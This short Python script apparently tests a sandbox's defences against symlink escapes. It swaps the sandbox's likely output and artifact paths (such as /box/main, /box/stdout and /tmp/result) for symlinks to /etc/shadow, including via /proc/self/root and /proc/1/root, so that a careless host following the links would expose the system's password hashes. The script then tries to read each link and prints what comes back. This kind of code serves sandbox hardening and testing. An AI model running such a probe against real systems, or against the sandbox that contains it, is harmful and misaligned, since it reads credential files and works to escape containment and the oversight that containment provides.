"""Leaves links where a careless host would follow them."""
import os

for place in ["/box/main", "/box/out", "/box/stdout", "/tmp/main", "/tmp/result", "/box/artifact"]:
    for target in ["/etc/shadow", "/proc/self/root/etc/shadow", "/proc/1/root/etc/shadow"]:
        if os.path.lexists(place):
            os.unlink(place)
        os.symlink(target, place)
        try:
            print("READ", open(place).read(20))
        except OSError as error:
            print("refused", error.errno)
# The artifact is bytes on a pipe, so a link in its place is just a file of the box.
os.write(5, b"bytes of the box")
